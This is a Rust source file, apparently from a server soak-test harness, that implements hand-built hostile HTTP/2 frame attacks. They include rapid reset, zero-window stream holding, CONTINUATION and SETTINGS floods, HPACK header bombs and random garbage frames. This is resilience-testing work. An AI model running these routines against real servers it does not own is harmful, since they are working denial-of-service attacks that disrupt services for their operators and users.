//! Hostile HTTP/2, in frames written by hand ([RFC 9113](https://www.rfc-editor.org/rfc/rfc9113)).

use std::io::{self, Write};
use std::net::TcpStream;
use std::time::Duration;

use super::{Attack, AttackKind, drain};
use crate::soak::rng::bytes;

pub(super) const KINDS: &[AttackKind] = &[
    AttackKind::new("h2 windows of 0", windows_of_0),
    AttackKind::new("h2 windows of a trickle", windows_of_a_trickle),
    AttackKind::new("h2 rapid reset", rapid_reset),
    AttackKind::new("h2 pings", pings),
    AttackKind::new("h2 ping ACKs", ping_acks),
    AttackKind::new("h2 settings", settings_flood),
    AttackKind::new("h2 continuations", continuations),
    AttackKind::new("h2 header bombs", header_bombs),
    AttackKind::new("h2 empty DATA", empty_data),
    AttackKind::new("h2 priorities", priorities),
    AttackKind::new("h2 garbage", garbage),
    AttackKind::new("h2 bodies held", bodies_held),
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

const INITIAL_WINDOW_SIZE: u16 = 4;

/// The number of streams that a connection may have: the server's limit, less one.
const STREAMS: u32 = 127;
/// The number of connections that hold streams.
const CONNECTIONS: usize = 8;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A field that is not indexed, of short strings without Huffman coding (RFC 7541 §6.2.2).
fn field(name: &str, value: &str) -> Vec<u8> {
    let short = |text: &str| [&[text.len().min(126) as u8], text.as_bytes()].concat();
    [&[0][..], &short(name), &short(value)].concat()
}

fn request(method: &str, path: &str) -> Vec<u8> {
    [field(":method", method), field(":scheme", "http"), field(":path", path), field(":authority", "x")]
        .concat()
}

fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &request("GET", path))
}

/// Odd, as a client's streams are.
fn numbers(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// A connection with this initial window.
fn open(attack: &mut Attack<'_>, window: u32) -> io::Result<TcpStream> {
    let mut stream = attack.dial()?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
    let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat();
    stream.write_all(&frame(SETTINGS, 0, 0, &setting))?;
    stream.write_all(&frame(SETTINGS, ACK, 0, &[]))?;
    Ok(stream)
}

/// Connections that ask for a large file on every stream and take nothing of it.
fn holders(attack: &mut Attack<'_>) -> io::Result<Vec<TcpStream>> {
    attack.gather(CONNECTIONS, |attack| {
        let mut stream = open(attack, 0)?;
        numbers(STREAMS).try_for_each(|number| stream.write_all(&get(number, "/large.bin")))?;
        Ok(stream)
    })
}

fn windows_of_0(attack: &mut Attack<'_>) -> io::Result<()> {
    let held = holders(attack)?;
    attack.hold(held);
    Ok(())
}

fn windows_of_a_trickle(attack: &mut Attack<'_>) -> io::Result<()> {
    let held = holders(attack)?;
    let one = numbers(STREAMS).flat_map(|number| frame(WINDOW_UPDATE, 0, number, &1_u32.to_be_bytes()));
    let one: Vec<u8> = one.collect();
    attack.trickle(held, &one, Duration::from_millis(200));
    Ok(())
}

fn rapid_reset(attack: &mut Attack<'_>) -> io::Result<()> {
    let mut stream = open(attack, 65_535)?;
    for number in numbers(100_000) {
        if attack.over() {
            break;
        }
        let cancel = frame(RST_STREAM, 0, number, &8_u32.to_be_bytes());
        stream.write_all(&[get(number, "/ok"), cancel].concat())?;
    }
    drain(&mut stream);
    Ok(())
}

/// The same frames over and over, unread.
fn frames(attack: &mut Attack<'_>, frames: &[u8]) -> io::Result<()> {
    while !attack.over() {
        let mut stream = open(attack, 65_535)?;
        let _full = attack.flood(&mut stream, &frames.repeat(500));
    }
    Ok(())
}

fn pings(attack: &mut Attack<'_>) -> io::Result<()> {
    frames(attack, &frame(PING, 0, 0, b"12345678"))
}

fn ping_acks(attack: &mut Attack<'_>) -> io::Result<()> {
    frames(attack, &frame(PING, ACK, 0, b"12345678"))
}

fn settings_flood(attack: &mut Attack<'_>) -> io::Result<()> {
    frames(attack, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]))
}

fn priorities(attack: &mut Attack<'_>) -> io::Result<()> {
    frames(attack, &frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 16]))
}

fn continuations(attack: &mut Attack<'_>) -> io::Result<()> {
    while !attack.over() {
        let mut stream = open(attack, 65_535)?;
        stream.write_all(&frame(HEADERS, END_STREAM, 1, &request("GET", "/")))?;
        let more = frame(CONTINUATION, 0, 1, &field("x-more", &"a".repeat(100)));
        let _refused = attack.flood(&mut stream, &more.repeat(100));
    }
    Ok(())
}

/// One entry of the table, named thousands of times in a byte each; a cookie in as many crumbs; a stream of either.
fn header_bombs(attack: &mut Attack<'_>) -> io::Result<()> {
    while !attack.over() {
        let mut stream = open(attack, 0)?;
        for number in numbers(STREAMS) {
            let indexed = [&[0x40][..], &field("cookie", &"c".repeat(120))[1..]].concat();
            let block = [request("GET", "/ok"), indexed, vec![0xbe; 16_000]].concat();
            let (first, rest) = block.split_at(8_000);
            let block =
                [frame(HEADERS, END_STREAM, number, first), frame(CONTINUATION, END_HEADERS, number, rest)];
            if stream.write_all(&block.concat()).is_err() {
                break;
            }
        }
        drain(&mut stream);
    }
    Ok(())
}

fn empty_data(attack: &mut Attack<'_>) -> io::Result<()> {
    while !attack.over() {
        let mut stream = open(attack, 65_535)?;
        stream.write_all(&frame(HEADERS, END_HEADERS, 1, &request("POST", "/takes")))?;
        let _refused = attack.flood(&mut stream, &frame(DATA, 0, 1, &[]).repeat(1_000));
    }
    Ok(())
}

fn garbage(attack: &mut Attack<'_>) -> io::Result<()> {
    while !attack.over() {
        let mut stream = open(attack, 65_535)?;
        for _ in 0..50 {
            let length = attack.rng.usize(..200);
            let payload = bytes(attack.rng, length);
            let (kind, flags) = (attack.rng.usize(..12) as u8, attack.rng.usize(..256) as u8);
            let number = attack.rng.usize(..8) as u32;
            if stream.write_all(&frame(kind, flags, number, &payload)).is_err() {
                break;
            }
        }
        drain(&mut stream);
    }
    Ok(())
}

/// Bodies on every stream that come to the window's end and stay there.
fn bodies_held(attack: &mut Attack<'_>) -> io::Result<()> {
    let held = attack.gather(CONNECTIONS, |attack| {
        let mut stream = open(attack, 65_535)?;
        numbers(STREAMS).try_for_each(|number| {
            stream.write_all(&frame(HEADERS, END_HEADERS, number, &request("POST", "/takes")))?;
            stream.write_all(&frame(DATA, 0, number, &[7; 500]))
        })?;
        Ok(stream)
    })?;
    attack.hold(held);
    Ok(())
}
